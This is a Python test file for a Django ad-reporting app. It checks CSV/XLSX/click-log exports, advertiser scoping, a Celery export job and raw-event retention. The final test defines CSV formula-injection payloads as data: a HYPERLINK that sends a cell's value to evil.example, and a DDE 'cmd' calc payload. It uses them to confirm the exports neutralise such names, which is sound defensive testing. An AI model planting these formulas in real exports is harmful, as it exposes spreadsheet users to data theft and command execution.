"""Exports (ads/exports.py, /reports/export/…, manage.py export_report) and the raw events' retention:
CSV with a BOM and XLSX that parse with Chinese intact and the right columns, a click log with one
row per click streamed by COPY, a large export built by a real Celery worker, the advertiser's scope
in every export, and retention that archives and deletes raw events while the reports stay."""
import csv
import gzip
import io
import time

import pytest
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from ads import exports, reports
from ads.models import AdvertiserUser, AuctionLog, Click, Conversion, DailyRollup, ExportJob, Impression, LedgerEntry
from contentlib.roles import ANALYSTS
from tests.conftest import groups_ready
from tests.ads.test_reports import ANALYST, DAY, LATER, NEXT, ledger_spend, traffic  # noqa: F401

pytestmark = pytest.mark.django_db
RANGE = {"date_from": DAY.isoformat(), "date_to": NEXT.isoformat()}


def analyst(name="ana"):
    groups_ready()  # a transactional test's flush removes the migrations' groups (and can take permissions)
    user = get_user_model().objects.create_user(name, f"{name}@example.com", "pw", is_staff=True)
    user.groups.add(Group.objects.get(name=ANALYSTS))
    return user


def owner_of(advertiser, name="owner-x"):
    user = get_user_model().objects.create_user(name, f"{name}@example.com", "pw")
    AdvertiserUser.objects.create(user=user, advertiser=advertiser, role="owner")
    return user


def content(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def parse_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 with a BOM, for Excel"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def test_the_report_csv_parses_with_chinese_and_the_right_columns(client, traffic):  # noqa: F811
    client.force_login(analyst())
    response = client.get(reverse("reports:export_report_csv"), RANGE, headers={"accept-language": "zh-hans"})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    header, *rows = parse_csv(content(response))
    assert header[0] == "广告日（Asia/Shanghai）" and header[2] == "推广计划" and header[-1] == "转化"
    assert len(rows) == DailyRollup.objects.count() == 4
    assert {row[2] for row in rows} == {traffic["cpc"].name, traffic["cpm"].name, traffic["other"].name}
    assert traffic["cpc"].name.startswith("计费推广")  # Chinese survived the round trip
    spend = header.index("花费（人民币）")
    assert sum(reports.Decimal(row[spend]) for row in rows) == ledger_spend()
    assert sum(int(row[-1]) for row in rows) == 2


def test_the_report_xlsx_parses_and_names_the_time_zone(client, traffic):  # noqa: F811
    client.force_login(analyst())
    response = client.get(reverse("reports:export_report_xlsx"), RANGE, headers={"accept-language": "en"})
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content), read_only=True)
    sheet, about = book.worksheets
    header, *rows = list(sheet.values)
    assert header[0] == "Ad day (Asia/Shanghai)" and header[-2] == "Spend (CNY)"
    assert len(rows) == 4 and {row[2] for row in rows} >= {traffic["other"].name}
    assert sum(reports.Decimal(str(row[-2])) for row in rows) == ledger_spend()
    assert ("Business time zone", "Asia/Shanghai") in list(about.values)


def test_the_click_log_has_one_row_per_click_with_both_times(client, traffic):  # noqa: F811
    client.force_login(analyst())
    response = client.get(reverse("reports:export_clicks_csv"), RANGE, headers={"accept-language": "en"})
    assert response.streaming
    header, *rows = parse_csv(content(response))
    assert header == ["click_id", "Time (Asia/Shanghai)", "Time (UTC)", "Ad day (Asia/Shanghai)", "Advertiser",
                      "Campaign", "Keyword", "Placement", "Pricing", "Price (CNY)", "Valid", "Reason", "Viewable",
                      "Billed", "Charged (CNY)", "Credited", "Converted"]
    assert len(rows) == Click.objects.filter(campaign__isnull=False).count() == 19
    by_id = {row[0]: row for row in rows}
    late = by_id[str(traffic["late_click"].click_id)]
    assert late[1:4] == ["2026-12-02 00:00:03.000", "2026-12-01T16:00:03.000Z", "2026-12-02"]
    assert (late[9], late[10], late[13], late[14], late[16]) == ("1.2300", "t", "t", "1.2300", "t")
    invalid = [row for row in rows if row[10] == "f"]
    assert sorted(row[11] for row in invalid) == ["bot", "ip_limit", "ip_limit", "ip_limit", "ip_limit", "repeat"]
    assert all(row[13] == "f" for row in invalid)
    assert sum(row[16] == "t" for row in rows) == Conversion.objects.count() == 2
    assert sum(row[15] == "t" for row in rows) == 1  # the credited click


def test_every_export_holds_only_the_enterprise_users_own_advertiser(client, traffic):  # noqa: F811
    other, mine = traffic["cpc"], traffic["other"]
    client.force_login(owner_of(mine.advertiser))
    sneaky = {**RANGE, "advertiser": other.advertiser_id, "campaign": other.id}
    for name in ("reports:export_report_csv", "reports:export_clicks_csv"):
        header, *rows = parse_csv(content(client.get(reverse(name), sneaky)))
        assert rows and all(mine.name in row for row in rows), name
        assert not any(other.name in row for row in rows)
    book = load_workbook(io.BytesIO(client.get(reverse("reports:export_report_xlsx"), sneaky).content), read_only=True)
    names = {row[2] for row in list(book.worksheets[0].values)[1:]}
    assert names == {mine.name}


def test_the_command_writes_the_click_log(traffic, tmp_path):  # noqa: F811
    out = tmp_path / "clicks.csv"
    call_command("export_report", "clicks", "--from", DAY.isoformat(), "--to", NEXT.isoformat(), "-o", str(out),
                 verbosity=0)
    header, *rows = parse_csv(out.read_bytes())
    assert len(rows) == 19 and header[0] == "click_id"
    call_command("export_report", "xlsx", "--from", DAY.isoformat(), "--to", NEXT.isoformat(),
                 "--advertiser", str(traffic["other"].advertiser_id), "-o", str(tmp_path / "r.xlsx"), verbosity=0)
    rows = list(load_workbook(tmp_path / "r.xlsx", read_only=True).worksheets[0].values)[1:]
    assert {row[2] for row in rows} == {traffic["other"].name}


@pytest.mark.django_db(transaction=True)
def test_a_large_click_log_is_built_by_a_celery_job_with_progress_and_a_download(
        client, traffic, celery_worker_on_redis, settings, tmp_path):  # noqa: F811
    settings.AD_EXPORT_INLINE_ROWS = 5
    settings.EXPORT_DIR = tmp_path
    user = analyst("big")
    client.force_login(user)
    offer = client.get(reverse("reports:export_clicks_csv"), RANGE)
    assert offer.status_code == 200 and not offer.streaming and b"19" in offer.content
    started = client.post(reverse("reports:export_start") + "?" + "&".join(f"{k}={v}" for k, v in RANGE.items()),
                          {"kind": "clicks_csv"})
    job = ExportJob.objects.get()
    assert started.status_code == 302 and started["Location"] == reverse("reports:export_job", args=[job.id])
    for _ in range(300):  # the worker runs in another thread; wait for it to finish (not a speed test)
        job.refresh_from_db()
        if job.status in ("done", "failed"):
            break
        time.sleep(0.1)
    assert (job.status, job.rows_total, job.rows_done, job.percent) == ("done", 19, 19, 100)
    page = client.get(reverse("reports:export_job", args=[job.id])).content.decode()
    assert reverse("reports:export_download", args=[job.id]) in page
    header, *rows = parse_csv(content(client.get(reverse("reports:export_download", args=[job.id]))))
    assert len(rows) == 19
    client.force_login(analyst("someone-else"))
    assert client.get(reverse("reports:export_download", args=[job.id])).status_code == 404
    assert client.get(reverse("reports:export_job", args=[job.id])).status_code == 404


def test_retention_archives_and_deletes_raw_events_and_the_reports_stay(traffic, tmp_path, settings):  # noqa: F811
    settings.RAW_EVENT_RETENTION_DAYS = 90
    before = reports.report_build(viewer=ANALYST, filters=reports.ReportFilters(date_from=DAY, date_to=NEXT))
    ledger_rows = LedgerEntry.objects.count()
    clicks, impressions = Click.objects.count(), Impression.objects.count()
    AuctionLog.objects.update(reader_key="k" * 32)
    # 90 days after NEXT: both days are past the retention period.
    done = exports.raw_events_retention(now=LATER + reports.dt.timedelta(days=90), directory=tmp_path)
    assert (done["clicks"], done["impressions"]) == (clicks, impressions)
    assert not Click.objects.exists() and not Impression.objects.exists()
    with gzip.open(done["files"][0], "rt", encoding="utf-8") as archive:
        header, *rows = list(csv.reader(archive))
    assert len(rows) == clicks and "reader_key" not in header and "ip_prefix" not in header
    assert not AuctionLog.objects.exclude(reader_key="").exists()
    assert LedgerEntry.objects.count() == ledger_rows
    assert Conversion.objects.count() == 2 and not Conversion.objects.filter(click__isnull=False).exists()
    after = reports.report_build(viewer=ANALYST, filters=reports.ReportFilters(date_from=DAY, date_to=NEXT))
    assert after.totals == before.totals


def test_retention_keeps_the_days_inside_the_period(traffic, tmp_path):  # noqa: F811
    clicks = Click.objects.count()
    done = exports.raw_events_retention(now=LATER, directory=tmp_path)
    assert done["clicks"] == 0 and Click.objects.count() == clicks


FORMULAS = {"advertiser": '=HYPERLINK("http://evil.example/?x="&A1,"点我")', "campaign": "+cmd|' /C calc'!A0",
            "keyword": "@SUM(1+1)*cmd", "placement": "-2+3"}


@pytest.mark.parametrize("export", ["reports:export_report_csv", "reports:export_report_xlsx",
                                    "reports:export_clicks_csv"])
def test_names_that_look_like_formulas_are_exported_as_text(client, traffic, export):  # noqa: F811
    """CSV/formula injection (OWASP): an advertiser's names starting with = + - @ open as text in Excel."""
    from ads.models import Advertiser, Campaign, CampaignKeyword, Placement  # noqa: PLC0415

    campaign = traffic["cpc"]
    Advertiser.objects.filter(id=campaign.advertiser_id).update(name=FORMULAS["advertiser"])
    Campaign.objects.filter(id=campaign.id).update(name=FORMULAS["campaign"])
    CampaignKeyword.objects.filter(campaign=campaign).update(text=FORMULAS["keyword"])
    Placement.objects.update(name=FORMULAS["placement"])
    client.force_login(analyst())
    response = client.get(reverse(export), RANGE, headers={"accept-language": "en"})
    assert response.status_code == 200
    if export.endswith("xlsx"):
        book = load_workbook(io.BytesIO(response.content))
        cells = [cell for row in book.worksheets[0].iter_rows(min_row=2) for cell in row[1:5]]
        assert cells and not any(cell.data_type == "f" for cell in cells)
        values = [cell.value for cell in cells]
    else:
        header, *rows = parse_csv(content(response))
        first = header.index("Advertiser")
        values = [value for row in rows for value in row[first:first + 4]]
    texts = {value for value in values if value}
    assert "'" + FORMULAS["advertiser"] in texts and "'" + FORMULAS["campaign"] in texts
    assert not any(str(value).startswith(("=", "+", "-", "@")) for value in texts), texts
